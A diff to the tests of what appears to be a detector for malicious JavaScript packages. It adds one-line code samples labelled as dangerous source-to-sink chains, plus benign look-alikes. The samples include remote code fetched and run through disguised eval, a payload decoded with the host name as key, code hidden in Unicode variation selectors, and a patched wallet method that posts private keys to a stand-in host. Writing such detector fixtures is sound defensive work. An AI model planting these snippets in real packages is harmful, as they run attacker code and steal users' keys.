@@ -16,6 +16,48 @@ use SourceKind::{
 /// What it does, source, sink, code of `index.js`.
 const CHAINS: &[(&str, SourceKind, SinkKind, &str)] = &[
     (
+        "evaluates what it fetched, by a name for it",
+        Fetched,
+        DynamicCode,
+        "fetch('https://a.invalid').then(r => r.text()).then(t => (0, eval)(t))",
+    ),
+    (
+        "makes a function of what it fetched, by a name that is put together",
+        Fetched,
+        DynamicCode,
+        "fetch('https://a.invalid').then(r => r.text()).then(t => Reflect['con' + 'struct'](Function, [t])())",
+    ),
+    (
+        "has a page run what it fetched, as a blob",
+        Fetched,
+        DynamicCode,
+        "async function load() { const r = await fetch('https://a.invalid'); const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([await r.text()], { type: 'text/javascript' })); document.head.append(s); } load()",
+    ),
+    (
+        "evaluates what only the name of the machine decodes",
+        Decoded,
+        DynamicCode,
+        "const key = require('os').hostname(); const bytes = Buffer.from('DhMXHhFaUltbWxxbXBxbWg==', 'base64'); const text = [...bytes].map((byte, at) => String.fromCharCode(byte ^ key.charCodeAt(at % key.length))).join(''); if (text.startsWith('fetch')) (0, eval)(text);",
+    ),
+    (
+        "evaluates bytes that are selectors of variants, written out",
+        Decoded,
+        DynamicCode,
+        "const lines = ['a\\u{E0156}\\u{E0155}\\u{E0164}']; const bytes = [...lines.join('')].map((c) => c.codePointAt(0)).filter((p) => p > 255).map((p) => p - 917760 + 16); eval(Buffer.from(bytes).toString());",
+    ),
+    (
+        "replaces a method of another package's wallet, and sends the key in it",
+        KeyArgument,
+        Http,
+        "const other = require('other-wallet'); const real = other.Wallet.prototype.sign; other.Wallet.prototype.sign = function (text) { fetch('https://a.invalid/', { method: 'POST', body: this.privateKey }); return real.call(this, text); };",
+    ),
+    (
+        "registers hooks of modules whose address is decoded",
+        Decoded,
+        DynamicCode,
+        "const { register } = require('module'); const code = Buffer.from('ZXhwb3J0', 'base64').toString(); register(atob('ZGF0YTp0ZXh0L2phdmFzY3JpcHQs') + encodeURIComponent(code))",
+    ),
+    (
         "evaluates what it fetched",
         Fetched,
         DynamicCode,
@@ -237,6 +279,22 @@ fn what_goes_nowhere_is_no_chain() {
         (
             "parses what it fetched",
             "fetch('https://a.invalid').then(r => r.json()).then(j => console.log(j.version))",
+        ),
+        (
+            "sends the key that its own client was made with",
+            "function Client(options) { this.privateKey = options.key; } Client.prototype.send = function (text) { return fetch('https://api.example/', { method: 'POST', body: this.privateKey + text }); }; module.exports = Client;",
+        ),
+        (
+            "replaces a method of another package, and counts its calls",
+            "const other = require('other-wallet'); const real = other.Wallet.prototype.sign; other.Wallet.prototype.sign = function (text) { fetch('https://a.invalid/', { method: 'POST', body: 'sign' }); return real.call(this, text); };",
+        ),
+        (
+            "shows an image that it fetched",
+            "fetch('https://a.invalid/x.png').then(r => r.arrayBuffer()).then(b => { const i = document.createElement('img'); i.src = URL.createObjectURL(new Blob([b], { type: 'image/png' })); })",
+        ),
+        (
+            "starts a worker that a bundler keeps as text",
+            "const code = atob('c2VsZi5vbm1lc3NhZ2U9KCk9Pnt9'); module.exports = () => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));",
         ),
         (
             "decodes an image",
